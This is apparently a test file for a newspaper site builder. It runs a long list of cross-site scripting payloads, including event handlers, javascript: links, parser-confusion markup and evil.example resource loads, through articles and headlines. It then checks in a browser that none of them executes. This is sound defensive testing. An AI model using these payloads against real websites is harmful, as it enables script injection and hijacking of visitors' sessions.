// Hostile raw HTML, captions and headlines through the whole build, as a real browser's parser understands the pages.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { contentReader } from '../../src/site/read-content.ts';
import { drawing } from '../images/made-pictures.ts';
import { aNewspaper } from '../pipeline/build-in.ts';
import { useBrowser } from './browser.ts';

process.chdir(join(import.meta.dirname, '../..'));
const browser = useBrowser();

const evil = 'https://evil.example/x';
const bodies: readonly string[] = [
  // Pictures.
  '<img src=bild.jpg onerror=alert(1)>',
  '<img src="bild.jpg" onload="alert(1)" onfocus=alert(1) autofocus tabindex=0>',
  '<img src=bild.jpg alt=\'" onerror="alert(1)\'>',
  '<img src=bild.jpg title=\'"><script>alert(1)</script>\'>',
  '<img src="bild.jpg" alt="&quot;&gt;&lt;img src=bild.jpg onerror=alert(1)&gt;">',
  '<img src="bild.jpg" alt="&#34; onerror=&#34;alert(1)">',
  `<img src="bild.jpg" srcset="${evil}.jpg 2x, ${evil}.png 3x">`,
  `<img srcset="${evil}.jpg 2x">`,
  `<img src="bild.jpg" style="background:url(${evil})" class=x id=main>`,
  `<img src="bild.jpg" lowsrc="${evil}" dynsrc="${evil}" longdesc="${evil}" usemap="#x">`,
  '<img src="bild.jpg" crossorigin referrerpolicy=unsafe-url loading=eager fetchpriority=high>',
  '<img src="java&#9;script:alert(1)"><img src=bild.jpg>',
  '<img src="&#x6a;avascript:alert(1)"> Text',
  '<img """><script>alert(1)</script>">',
  '<img/src=bild.jpg/onerror=alert(1)>',
  '<img src=bild.jpg\u000conerror=alert(1)>',
  '<IMG SRC=bild.jpg OnErRoR=alert(1)>',
  `<picture><source srcset="${evil}.avif" media="(min-width:1px)"><img src="bild.jpg"></picture>`,
  `<picture onclick=alert(1)><img src=bild.jpg></picture>`,
  // Links around pictures, captions.
  '<a href="javascript:alert(1)"><img src="bild.jpg"></a>',
  '<a href="java\nscript:alert(1)"><img src="bild.jpg"></a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)"><img src=bild.jpg alt=A></a>',
  '<a href="/x" onclick=alert(1) target=_blank ping="https://evil.example/p"><img src="bild.jpg"></a>',
  '[![A](bild.jpg)](javascript:alert(1))',
  '[![A](bild.jpg)](data:text/html,<script>alert(1)</script>)',
  '<figure onclick=alert(1)><img src="bild.jpg"><figcaption onmouseover=alert(1)>Text</figcaption></figure>',
  '<figure><img src="bild.jpg"><figcaption><img src=bild.jpg onerror=alert(1)></figcaption></figure>',
  '<figure><img src="bild.jpg"><figcaption>&lt;img src=bild.jpg onerror=alert(1)&gt;</figcaption></figure>',
  '<figure><img src="bild.jpg"><figcaption><script>alert(1)</script>Text</figcaption></figure>',
  '<figure><img src="bild.jpg"><figcaption><style>*{background:url(//evil.example)}</style>T</figcaption></figure>',
  '<figure><img src="bild.jpg"><figcaption><a href="javascript:alert(1)">x</a></figcaption></figure>',
  '<figure><img src="bild.jpg"><figcaption>(Foto: "><svg onload=alert(1)>)</figcaption></figure>',
  '![A](bild.jpg "<img src=bild.jpg onerror=alert(1)> (Foto: <svg onload=alert(1)>)")',
  '![A](bild.jpg \'" onmouseover="alert(1)\')',
  '![<img src=bild.jpg onerror=alert(1)>](bild.jpg)',
  '![A](bild.jpg "[x](javascript:alert(1))")',
  '![A](bild.jpg "<a href=javascript:alert(1)>x</a>")',
  '![A](bild.jpg "&lt;script&gt;alert(1)&lt;/script&gt;")',
  // Frames and posts.
  '<iframe src="https://www.youtube.com/embed/abcdefghijk" onload=alert(1) srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk?x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"></iframe>',
  '<iframe src="//www.youtube.com/embed/abcdefghijk" name="&quot;&gt;&lt;script&gt;"></iframe>',
  '<figure><iframe src="https://www.youtube.com/embed/abcdefghijk"></iframe><figcaption>"><img src=bild.jpg onerror=alert(1)></figcaption></figure>',
  '<iframe data-src="https://player.vimeo.com/video/123" src="javascript:alert(1)"></iframe>',
  '<blockquote class="twitter-tweet" onclick=alert(1)><p>Hallo <img src=bild.jpg onerror=alert(1)></p><a href="https://twitter.com/x/status/12345">1. Mai</a></blockquote>',
  '<blockquote class="twitter-tweet"><a href="javascript:alert(1)//https://twitter.com/x/status/1">x</a></blockquote>',
  '<blockquote class="twitter-tweet"><a href="https://twitter.com/x/status/1&quot;onclick=&quot;alert(1)">x</a></blockquote>',
  '<blockquote class="instagram-media" data-instgrm-permalink="javascript:alert(1)"><p>Text</p></blockquote>',
  '<blockquote class="tiktok-embed" cite="https://www.tiktok.com/@a/video/7" style="position:fixed;inset:0">x</blockquote>',
  '<script async src="https://platform.twitter.com/widgets.js" onload=alert(1)></script>',
  '<script src="https://platform.twitter.com/widgets.js?x=//evil.example/x.js"></script>',
  `<script src="https://evil.example/embed.js"></script>`,
  // Links and text.
  '<a href=javascript:alert(1)>x</a>',
  '<a href=java&NewLine;script&colon;alert(1)>x</a>',
  '<a href="\u0001 javascript:alert(1)">x</a>'.replace('\u0001', '&#1;'),
  '<a href="  jAvAsCrIpT  :alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a> <a href="view-source:x">y</a> <a href="blob:x">z</a>',
  '<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>',
  '<a href="/x" style="display:block;position:fixed;inset:0" class="embed-play" data-own="x">x</a>',
  '<a name=x onfocus=alert(1) autofocus>x</a>',
  '<p onclick=alert(1) contenteditable onpaste=alert(1) accesskey=x>Text</p>',
  '<div style="background-image:url(&quot;https://evil.example/x&quot;)">x</div>',
  '<div style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x)">x</div>',
  `<table background="${evil}"><tr><td background="${evil}">x</td></tr></table>`,
  `<body background="${evil}">`,
  '<details open ontoggle=alert(1)><summary onkeydown=alert(1)>x</summary>y</details>',
  '<marquee onstart=alert(1)>x</marquee><bgsound src=//evil.example/x.mid>',
  '<time datetime=\'2019" onclick="alert(1)\'>x</time>',
  '<abbr title=\'"><img src=bild.jpg onerror=alert(1)>\'>x</abbr>',
  '<blockquote cite="javascript:alert(1)">x</blockquote><q cite="//evil.example">x</q>',
  // What parsers read differently.
  '<math><mtext><table><mglyph><style><math><img src=bild.jpg onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=bild.jpg onerror=alert(1)>"></style></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><desc><noscript><img title="</noscript><img src=bild.jpg onerror=alert(1)>"></noscript></desc></svg>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=bild.jpg onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=bild.jpg onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=bild.jpg onerror=alert(1)>">',
  '<title><a title="</title><svg onload=alert(1)>"></title>',
  '<plaintext><img src=bild.jpg onerror=alert(1)>',
  '<listing>&lt;img onerror="alert(1)" src=bild.jpg&gt;</listing><xmp><img src=bild.jpg onerror=alert(1)></xmp>',
  '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject><use href="data:image/svg+xml,x#y"/></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=bild.jpg onerror=alert(1)> -->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?php echo 1 ?><img src=bild.jpg onerror=alert(1)>',
  '<b <script>alert(1)</script>0',
  '<<img src=bild.jpg onerror=alert(1)>>',
  '<p title="\n\n"><img src=bild.jpg onerror=alert(1)>',
  '<table><a href="/x"><img src=bild.jpg><tr><td>x',
  '<a href="/x"><a href="javascript:alert(1)"><img src="bild.jpg"></a></a>',
  '<figure><figure><img src=bild.jpg></figure><figcaption>"><svg/onload=alert(1)>',
  '<meta http-equiv=refresh content="0;url=//evil.example"><link rel=preload href=//evil.example as=script>',
  '<base href="//evil.example/"><a href="x">x</a>',
  '<form action=//evil.example><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>',
  '<video poster="//evil.example/p.jpg" src="ton.mp3" onplay=alert(1)></video>',
  '<audio src=ton.mp3 onerror=alert(1) autoplay></audio>',
]; // biome-ignore format: a table

const heads: readonly string[] = [
  `title: "<img src=bild.jpg onerror=alert(1)>"`,
  `title: 'Rat</title><script>alert(1)</script>'`,
  `title: '"><svg onload=alert(1)>'`,
  `title: Rat\nlead: '</p><script>alert(1)</script> "onclick="alert(1)'`,
  `title: Rat\nkicker: '<a href=javascript:alert(1)>x</a>'`,
  `title: Rat\nauthors: ['<img src=bild.jpg onerror=alert(1)>', '" onclick="alert(1)']\ntags: ['</script><script>alert(1)</script>']`,
  `title: Rat\nsource: '</script><img src=bild.jpg onerror=alert(1)>'`,
  `title: Rat\nimage:\n  src: bild.jpg\n  alt: '" onerror="alert(1)'\n  caption: '<img src=bild.jpg onerror=alert(1)>'\n  credit: '"><script>alert(1)</script>'`,
];

/** Runs in the page: what a browser could run or load by itself, in one document and in what is made of it again. */
const findings = `(htmls) => htmls.flatMap(([name, html]) => {
  const loading = ['src', 'srcset', 'poster', 'data', 'action', 'formaction', 'background', 'ping', 'longdesc', 'lowsrc', 'manifest'];
  const own = (value) => value.startsWith('/') && !/^\\/[\\/\\\\]/.test(value);
  const look = (doc, how) => [...doc.querySelectorAll('*')].flatMap((element) => {
    const tag = element.localName;
    const found = [];
    if (['iframe', 'object', 'embed', 'frame', 'base', 'math', 'foreignobject', 'animate', 'template', 'noscript'].includes(tag)) found.push(tag);
    if (tag === 'script' && !element.src && !/^(application\\/ld\\+json|speculationrules)$/.test(element.type) && /alert/.test(element.textContent)) found.push('script');
    if (tag === 'style' && /evil/.test(element.textContent)) found.push('style');
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'srcdoc') found.push(name);
      if (/^[\\u0000-\\u0020]*(javascript|vbscript|data|blob|feed|view-source):/i.test(value.replace(/[\\t\\n\\r]/g, '')) && (name === 'href' || loading.includes(name))) found.push(name + '=' + value);
      if (name === 'style' && /url|expression|fixed|binding/.test(value)) found.push('style=' + value);
      if (loading.includes(name)) for (const part of value.split(/,\\s+/)) if (!own(part.trim())) found.push(name + '=' + part);
      if (name === 'href' && tag === 'link' && !own(value) && !/^https:\\/\\/[\\w.-]+\\.example\\//.test(value)) found.push('link ' + value);
      if (tag === 'link' && /evil/.test(value)) found.push('link ' + value);
      if (tag === 'meta' && name === 'http-equiv' && /refresh/i.test(value)) found.push('refresh');
    }
    return found.map((what) => name + ' (' + how + '): ' + what);
  });
  const doc = new DOMParser().parseFromString(html, 'text/html');
  const again = new DOMParser().parseFromString('<div>' + doc.body.innerHTML + '</div>', 'text/html');
  return [...look(doc, 'parsed'), ...look(again, 'parsed again')];
})`;

test('Nothing hostile in raw HTML, captions and headlines runs or loads anything, in a real browser’s parser', async (t) => {
  const head = 'title: Rat\n';
  const texts = [
    ...bodies.map(
      (body) =>
        `---\n${head}---\n\nVorher.\n\n${body}\n\nIn der Zeile ${body.replaceAll('\n', ' ')} steht es.\n`,
    ),
    ...heads.map((fields) => `---\n${fields}\n---\nText\n`),
  ];
  const files = Object.fromEntries(
    texts.map((text, index) => [`content/artikel/2019-12-05-a${index}.md`, text]),
  );
  const paper = await aNewspaper(t, {
    ...files,
    'content/artikel/bild.jpg': await drawing(64, 36).jpeg().toBuffer(),
    'content/artikel/ton.mp3': Buffer.from('ID3\u0004\0\0\0\0\0\0'),
  });
  const read = contentReader(paper.options.contentDir, paper.options.settings, new Map());
  const names = Object.keys(files).map((file) => file.slice('content/'.length));
  const refused = read(names).flatMap((result, index) =>
    result !== null && 'errors' in result ? [names[index] ?? ''] : [],
  );
  // What is refused is told; the others are published.
  assert.ok(refused.length < bodies.length / 2, `${refused.length} of ${bodies.length} are refused`);
  for (const name of refused) await paper.write({ [`content/${name}`]: `---\n${head}---\nText\n` });
  await paper.build();
  const contents = [...(await paper.contents())].filter(
    ([path]) => path.endsWith('.html') && !path.startsWith('suche/'),
  );
  const pages = contents.map(([path, html]) => [path, Buffer.from(html, 'latin1').toString()]);
  const page = await browser.page(t);
  const found = await page.evaluate<string[]>(`(${findings})(${JSON.stringify(pages)})`);
  assert.deepEqual(found, []);
});
